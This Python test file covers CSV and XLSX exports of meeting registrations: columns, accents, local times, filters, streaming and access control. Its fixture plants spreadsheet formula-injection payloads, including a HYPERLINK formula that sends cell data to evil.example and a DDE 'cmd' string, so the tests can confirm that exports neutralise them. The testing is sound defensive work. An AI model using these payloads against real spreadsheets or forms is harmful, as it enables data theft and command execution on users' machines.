"""Exports of registrations as CSV and XLSX: every useful column, the organizers' filters, accents
that survive Excel, and cells that a spreadsheet would take for formulas neutralised."""

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import event

from meeting.extensions import db
from meeting.meetings.models import Meeting

from . import factories

BASE = "/manage/meetings/avp-test/registrations"
HEADER = [
    "Number",
    "Status",
    "Role",
    "Salutation",
    "Given name",
    "Family name",
    "Function",
    "Delegation",
    "Kind of organization",
    "Email address",
    "Telephone",
    "Language for emails",
    "Attendance",
    "Appears in the public list",
    "Accessibility needs",
    "Registered at (Europe/Zurich)",
    "Decided at (Europe/Zurich)",
    "Checked in at (Europe/Zurich)",
]


@pytest.fixture
def meeting_id(app):
    with app.app_context():
        meeting = factories.make_meeting()
        ivory_coast = factories.make_organization(
            name_en="Côte d'Ivoire", name_fr="Côte d'Ivoire", name_es="Côte d'Ivoire", iso_code="CI"
        )
        ngo = factories.make_organization(kind="ngo", name_en="Screen Actors’ Guild", iso_code=None)
        factories.make_registration(
            meeting,
            ivory_coast,
            role="head_of_delegation",
            salutation="he_ms",
            given_name="Adjoua",
            family_name="Kouassi-N’Guessan",
            function="Ambassadrice, Représentante permanente",
            email="adjoua@example.org",
            phone="+41 22 000 00 00",
            preferred_language="fr",
            consent_public_list=True,
            accessibility_needs="Accès en fauteuil roulant",
            created_at=datetime(2026, 3, 2, 8, 30, tzinfo=UTC),
            decided_at=datetime(2026, 3, 3, 12, 0, tzinfo=UTC),
            checked_in_at=datetime(2026, 3, 20, 7, 45, tzinfo=UTC),
        )
        factories.make_registration(
            meeting,
            ngo,
            status="pending",
            role="observer",
            given_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
            family_name="@SUM(1+1)",
            function="-2+3",
            email="observer@example.org",
            phone="+1 555 0100",
            accessibility_needs="\tcmd|' /C calc'!A0",
            created_at=datetime(2026, 3, 4, 9, 0, tzinfo=UTC),
        )
        factories.make_registration(
            meeting,
            None,
            status="cancelled",
            organization_name_other="\rRogue Org",
            given_name="Gone",
            family_name="Away",
            email="gone@example.org",
            created_at=datetime(2026, 3, 5, 9, 0, tzinfo=UTC),
        )
        db.session.commit()
        return meeting.id


def csv_rows(response):
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params.get("charset") == "utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="registrations-avp-test-')
    body = response.get_data()
    assert body.startswith("\ufeff".encode())  # Excel then reads UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_rows(response):
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    assert sheet.freeze_panes == "A2"
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_csv_has_every_column_with_accents_and_local_times(organizer_client, meeting_id):
    rows = csv_rows(organizer_client.get(f"{BASE}/export.csv"))
    assert rows[0] == HEADER
    assert len(rows) == 4
    first = dict(zip(HEADER, rows[1], strict=True))
    assert first["Status"] == "Confirmed" and first["Role"] == "Head of delegation"
    assert first["Salutation"] == "H.E. Ms." and first["Family name"] == "Kouassi-N’Guessan"
    assert first["Function"] == "Ambassadrice, Représentante permanente"
    assert first["Delegation"] == "Côte d'Ivoire" and first["Kind of organization"] == "Member State"
    assert first["Email address"] == "adjoua@example.org" and first["Language for emails"] == "fr"
    assert first["Attendance"] == "In person" and first["Appears in the public list"] == "Yes"
    assert first["Accessibility needs"] == "Accès en fauteuil roulant"
    # Geneva is UTC+1 in March.
    assert first["Registered at (Europe/Zurich)"] == "2026-03-02 09:30"
    assert first["Decided at (Europe/Zurich)"] == "2026-03-03 13:00"
    assert first["Checked in at (Europe/Zurich)"] == "2026-03-20 08:45"
    assert rows[2][HEADER.index("Status")] == "Pending accreditation"
    assert rows[2][HEADER.index("Decided at (Europe/Zurich)")] == ""


def test_csv_neutralises_cells_that_a_spreadsheet_would_run(organizer_client, meeting_id):
    rows = csv_rows(organizer_client.get(f"{BASE}/export.csv"))
    observer = dict(zip(HEADER, rows[2], strict=True))
    assert observer["Given name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert observer["Family name"] == "'@SUM(1+1)"
    assert observer["Function"] == "'-2+3"
    assert observer["Telephone"] == "'+1 555 0100"
    assert observer["Accessibility needs"] == "'\tcmd|' /C calc'!A0"
    assert rows[3][HEADER.index("Delegation")] == "'\rRogue Org"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_has_the_same_rows_with_real_dates_and_no_formula(organizer_client, meeting_id):
    sheet, rows = xlsx_rows(organizer_client.get(f"{BASE}/export.xlsx"))
    assert rows[0] == HEADER and sheet["A1"].font.bold
    first = dict(zip(HEADER, rows[1], strict=True))
    assert first["Delegation"] == "Côte d'Ivoire" and first["Family name"] == "Kouassi-N’Guessan"
    assert first["Registered at (Europe/Zurich)"] == datetime(2026, 3, 2, 9, 30)
    assert first["Telephone"] == "'+41 22 000 00 00"
    observer = dict(zip(HEADER, rows[2], strict=True))
    assert observer["Given name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert observer["Family name"] == "'@SUM(1+1)" and observer["Function"] == "'-2+3"
    assert observer["Decided at (Europe/Zurich)"] is None
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_exports_follow_the_lists_filters(organizer_client, meeting_id):
    rows = csv_rows(organizer_client.get(f"{BASE}/export.csv?status=confirmed"))
    assert [row[HEADER.index("Email address")] for row in rows[1:]] == ["adjoua@example.org"]
    rows = csv_rows(organizer_client.get(f"{BASE}/export.csv?kind=other"))
    assert [row[HEADER.index("Email address")] for row in rows[1:]] == ["gone@example.org"]
    _sheet, rows = xlsx_rows(organizer_client.get(f"{BASE}/export.xlsx?q=observer"))
    assert [row[HEADER.index("Email address")] for row in rows[1:]] == ["observer@example.org"]
    page = organizer_client.get(f"{BASE}/?status=pending").get_data(as_text=True)
    assert f'href="{BASE}/export.csv?status=pending"' in page and f'href="{BASE}/export.xlsx?status=pending"' in page


def test_exports_require_an_organizer(client, meeting_id):
    for url in (f"{BASE}/export.csv", f"{BASE}/export.xlsx"):
        response = client.get(url)
        assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_a_long_csv_is_streamed_in_pieces(app, organizer_client, monkeypatch):
    from meeting.registration import exports

    monkeypatch.setattr(exports, "BATCH", 4)
    with app.app_context():
        factories.make_delegations(factories.make_meeting(), 10)
        db.session.commit()
    response = organizer_client.get(f"{BASE}/export.csv", buffered=False)
    assert response.is_streamed
    chunks = list(response.response)
    assert len(chunks) == 3  # the header and 4 rows, 4 rows, 2 rows
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))
    assert len(rows) == 11 and rows[-1][HEADER.index("Family name")] == "Family10"


def test_export_queries_do_not_grow_with_the_registrations(app, organizer_client):
    with app.app_context():
        meeting = factories.make_meeting()
        factories.make_delegations(meeting, 10)
        db.session.commit()
        meeting_id, engine = meeting.id, db.engine

    def queries_for(url):
        statements = []
        listener = lambda *args: statements.append(args[2])  # noqa: E731
        event.listen(engine, "before_cursor_execute", listener)
        try:
            response = organizer_client.get(url)
            body = response.get_data()
        finally:
            event.remove(engine, "before_cursor_execute", listener)
        return len(statements), body

    small_csv, _body = queries_for(f"{BASE}/export.csv")
    small_xlsx, _body = queries_for(f"{BASE}/export.xlsx")
    with app.app_context():
        factories.make_delegations(db.session.get(Meeting, meeting_id), 30, start=11)
        db.session.commit()
    large_csv, body = queries_for(f"{BASE}/export.csv")
    assert body.decode("utf-8-sig").count("@example.org") == 40
    large_xlsx, _body = queries_for(f"{BASE}/export.xlsx")
    assert (large_csv, large_xlsx) == (small_csv, small_xlsx)
